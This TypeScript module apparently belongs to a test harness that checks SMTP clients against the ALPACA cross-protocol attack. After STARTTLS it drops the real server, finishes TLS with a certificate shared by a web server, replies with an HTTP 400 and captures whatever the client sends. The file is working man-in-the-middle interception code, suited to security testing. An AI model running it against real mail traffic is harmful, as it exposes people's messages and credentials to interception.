/**
 * Leads the connection, once STARTTLS was agreed upon, to another service that has the same certificate: a web server. TLS comes about, the
 * certificate is genuine and for the right name, and behind it is somebody who speaks another language (ALPACA, 2021). Whoever sends
 * before the other has answered in SMTP would hand its message to that service's log.
 */
import { createSecureContext, TLSSocket } from "node:tls";
import type { AttackDeps, AttackTarget, Captured, HeldAttack } from "./types.ts";
import { startMiddle } from "./middle.ts";
import { attacker } from "./types.ts";

const webAnswer = "HTTP/1.1 400 Bad Request\r\nContent-Length: 0\r\nConnection: close\r\n\r\n";
const bytesReadMax = 262_144;

export const sessionCross = attacker("session-cross", { "web-server": leading });

async function leading(deps: AttackDeps, target: AttackTarget): Promise<HeldAttack> {
  if (target.credentials === undefined) throw new TypeError("there is no certificate to lead astray with");
  const secureContext = createSecureContext({ ...target.credentials, minVersion: "TLSv1.2" });
  const read: Captured[] = [];
  const middle = await startMiddle(deps, target, {
    startTls(passage, agreement) {
      passage.dropServer();
      passage.client.write(agreement, "latin1");
      const socket = new TLSSocket(passage.client, { isServer: true, secureContext });
      let got = "";
      socket.on("error", () => {});
      socket.once("secure", () => passage.strike());
      socket.once("end", () => socket.end());
      socket.on("data", (chunk: Buffer) => {
        if (got === "") socket.end(webAnswer);
        got = (got + chunk.toString("utf8")).slice(0, bytesReadMax);
      });
      socket.once("close", () => void (got !== "" && read.push({ from: "", to: [], content: got, tls: true })));
      passage.client.once("close", () => socket.destroy());
    },
  });
  return {
    ...middle,
    captured: () => [...middle.captured(), ...read],
    get counts() {
      return middle.counts;
    },
    close: () => middle.close(),
  };
}
